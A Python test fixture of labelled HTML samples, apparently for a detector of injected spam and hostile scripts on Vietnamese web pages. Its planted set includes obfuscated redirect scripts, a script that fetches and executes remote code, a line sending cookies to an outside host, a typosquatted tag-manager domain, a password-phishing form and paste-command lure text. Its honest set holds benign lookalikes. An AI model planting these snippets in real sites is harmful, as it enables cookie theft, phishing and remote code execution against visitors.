# ruff: noqa: E501  one planted thing a line
"""A ninth labelled set: what single hidden links, coded scripts and soft words look like, and what
honest pages put out of sight, name or load. Names of trades are made up.
"""

from tests.members.unlike_frames import framed

_AWAY = "<a href='https://remcua-mochau.com'>rèm cửa</a>"
_WAYS = {
    "not shown": "display:none",
    "no height": "overflow:hidden;height:1px;width:1px",
    "to nothing": "transform:scale(0)",
    "filtered": "filter:opacity(0)",
    "below": "position:fixed;bottom:-100vh",
    "indented": "text-indent:100%;white-space:nowrap;overflow:hidden",
    "no font": "font-size:0px",
    "nearly its ground": "color:#fdfdfd;background:#ffffff",
}
PLANTED = {
    **{f"hidden: {name}": f"<div style='{way}'>{_AWAY}</div>" for name, way in _WAYS.items()},
    "hidden: a rule for its links": f"<style>.lnk a{{font-size:1px;color:#fff}}</style><div class='lnk'>{_AWAY}</div>",
    "hidden: no words": "<a href='https://remcua-mochau.com'>&nbsp;</a>",
    "hidden: a dot": "<a href='https://remcua-mochau.com'><img src='/t.gif' width=1 height=1 alt=''></a>",
    "hidden: a template": f"<template>{_AWAY}</template>",
    "code: backwards in an attribute": "<i id='q' data-q='moc.aohyal//:sptth'></i><script>document.addEventListener('scroll',()=>{location.href=q.dataset.q.split('').reverse().join('')})</script>",
    "code: crossed with a key": "<script>const k=42,d=[66,94,94,90,89,16,5,5,90,70,75,83,28,28,4,73,69,71];location.replace(d.map(c=>String.fromCharCode(c^k)).join(''))</script>",
    "code: in hex": "<script>var s='68747470733a2f2f686f616d61692e6d656e',r='';for(var i=0;i<s.length;i+=2)r+=String.fromCharCode(parseInt(s.substr(i,2),16));location=r</script>",
    "code: pieces in base64": "<script>var _=['aHR0cHM6Ly8=','aG9hbWFp','LmNvbQ=='];location.href=_.map(atob).join('')</script>",
    "code: runs what it fetches": "<script>fetch('https://api.hoamai-stat.com/c').then(r=>r.json()).then(y=>(0,Function)(atob(y.k))())</script>",
    "code: a script in its own address": "<script src='data:text/javascript;base64,dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHBzOi8vdGRzLmhvYW1haS5jb20vZyc7ZG9jdW1lbnQuYm9keS5hcHBlbmRDaGlsZChzKQ=='></script>",
    "code: a host in an argument": "<script>(function(d,z,s){s.src='https://'+d+'/4/'+z;document.body.appendChild(s)})('hoamai.fans',66,document.createElement('script'))</script>",
    "code: cookies sent": "<script>new Image().src='https://thu-thap.ru/c.gif?c='+document.cookie</script>",
    "code: nothing but brackets": f"<script>{'[][(![]+[])[+[]]+(!![]+[])[+!+[]]]' * 12}</script>",
    "code: nearly a known house": "<script async src='https://www.googletagmanagar.com/gtag/js?id=G-1'></script>",
    "code: all links led away": "<script>document.querySelectorAll('a').forEach(a=>a.href='https://hoamai-go.com')</script>",
    "code: commands to paste": "<p>Nhấn <b>Windows + R</b>, dán bằng <b>Ctrl + V</b> rồi nhấn Enter để xác minh.</p>",
    "a form for passwords": "<form action='https://xac-minh-hoamai.com/l'><input name='id'><input type='password' name='p'></form>",
    "in the state's name": "<p>Tải bản mới tại <a href='https://vneid-capnhat.com/t'>đây</a>.</p>",
    "a program of a stranger": "<a href='https://hoamai-soft.com/phanmem.apk'>Tải ứng dụng</a>",
    "named in data": "<div data-src='https://cdn.hoamai88.bet/x.jpg'></div>",
    "a page in a square": "<p>Nhóm <a href='https://t.me/keonhacai_hoamai'>tại đây</a></p>",
    "coded name, no words": "<p>Kế hoạch <a href='https://mudo88vn.com'>xem thêm</a> của phường.</p>",
    "soft: for rent": {"title": "Cho thuê xe máy giá rẻ 80k/ngày", "body": "<p>Thuê xe giao tận nơi, không cần cọc, liên hệ zalo 0905 123 456, xe mới, tặng áo mưa.</p>"},
    "soft: money": "<p>Chỉ cần sổ hộ khẩu bản sao, nhận tiền sau 20 phút, trả dần mỗi ngày 100k, không cần người bảo lãnh.</p>",
    "soft: dreams": {"title": "Nằm mơ thấy rắn đánh con gì", "body": "<p>Mơ thấy rắn nên chọn 32, 62. Ghi ngay hôm nay để kịp giờ quay, tỷ lệ trúng cao.</p>"},
    "soft: money brought back": "<p>Dịch vụ thu hồi tiền bị lừa trên mạng, cam kết lấy lại 100% vốn trong 24h.</p>",
    "letters with lines under them": "<p>c̲á c̲ược thể thao nạp rút 1 phút</p>",
    "Greek letters": "<p>ΤÀΙ ΧỈU đổi thưởng tặng code</p>",
}  # fmt: skip
HONEST = {
    "menu": "<ul class='dropdown-menu' style='display:none'><li><a href='https://dongphat-group.com'>Đồng Phát</a></li></ul>",
    "dialog": "<div class='modal' style='display:none'><a href='https://hoinghi-viet-my.com'>Hội nghị</a></div>",
    "accordion": "<div class='accordion-content' style='max-height:0;overflow:hidden'><a href='https://nhathau-tandong.com'>Nhà thầu</a></div>",
    "credit in small print": "<p style='font-size:1px'><a href='https://webtrangan.com'>Thiết kế bởi Tràng An</a></p>",
    "only on paper": "<style>@media print{.noprint,.lk{display:none}}</style><div class='lk'><a href='https://hoptac-quocte.org'>HTQT</a></div>",
    "logo in place of words": "<a href='https://dongphat-group.com' style='text-indent:-9999px;display:block;background:url(/l.png)'>Đồng Phát</a>",
    "white on a picture": "<div style='color:#fff;background:#fff url(/b.jpg)'><a href='https://dongphat-group.com'>Đồng Phát</a></div>",
    "icon": "<a href='https://dongphat-group.com'><i class='fa fa-globe'></i></a>",
    "counter": "<noscript><a href='https://www.histats.com'><img src='https://sstatic1.histats.com/0.gif' alt='đếm'></a></noscript>",
    "tag manager": "<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':1});var j=d.createElement(s);j.src='https://www.googletagmanager.com/gtm.js?id='+i;d.head.appendChild(j)})(window,document,'script','dataLayer','GTM-X')</script>",
    "coded letter box": "<script>document.write('<a href=\"mailto:'+atob('dmFudGh1QHguZ292LnZu')+'\">thư</a>')</script>",
    "numbers": "<script>var k=[72,101,108,108,111,44,32,119,111,114,108,100]</script>",
    "own password": "<form action='/dang-nhap'><input type='password'></form>",
    "sister towns": "<a href='https://www.city.sakai.example.jp/'><img alt='堺市 姉妹都市' src='/s.png'></a>",
    "block list": {"title": "Danh sách tên miền bị chặn", "body": "<pre>8xbetvv[.]com nohu52[.]cc kubet77[.]top sunwin-apk[.]link bong88x[.]net</pre>"},
    "names of brands": "<p>Theo điều tra, Nguyễn Văn T. làm đại lý của trang bong88, 8xbet và sbobet, chia tài khoản cho các con bạc.</p>",
    "Thai visitors": {"title": "คำแนะนำนักท่องเที่ยวชาวไทย", "body": "<p>ยินดีต้อนรับนักท่องเที่ยว ห้ามเล่นการพนันตามกฎหมายเวียดนาม</p>"},
    "Russian visitors": {"title": "Памятка туристу во Вьетнаме", "body": "<p>Азартные игры вне лицензированных казино запрещены законом. Вьетнам ждёт вас.</p>"},
    "produce": "<p>HTX nông sản sạch: gạo ST25 giá 35k/kg, giao hàng tận nơi, freeship nội thành, đặt hàng qua Zalo 0909 111 222, cam kết chất lượng.</p>",
    "trains": "<p>Điểm bán vé tàu Tết: giảm 10%, đặt vé online, hoàn tiền 100% khi trả trước 7 ngày.</p>",
    "loans of the state": "<p>Ngân hàng CSXH cho vay không phải thế chấp, lãi suất 7,92%/năm, giải ngân trong ngày, chống tín dụng đen.</p>",
    "games at Tết": "<ul><li><a href='/t/1'>Tết này chơi gì: lô tô, bầu cua, ô ăn quan; chơi vui, không ăn tiền.</a></li></ul>",
    "what children see": "<ul><li><a href='/t/1'>Mẹ nên làm gì khi con xem phim người lớn?</a></li></ul>",
    "trade fair": "<p><a href='https://techfest.asia'>Techfest</a> mở đăng ký tại thành phố.</p>",
    "words by the way": "<p>Cẩn trọng thuốc cường dương, kích dục trôi nổi: nhiều người nhập viện.</p>",
}  # fmt: skip


def planted_cases():
    """Yield (name, html) of each piece in one of the frames."""
    yield from framed(PLANTED)


def clean_cases():
    """Yield (name, html) of each piece in one of the frames."""
    yield from framed(HONEST)
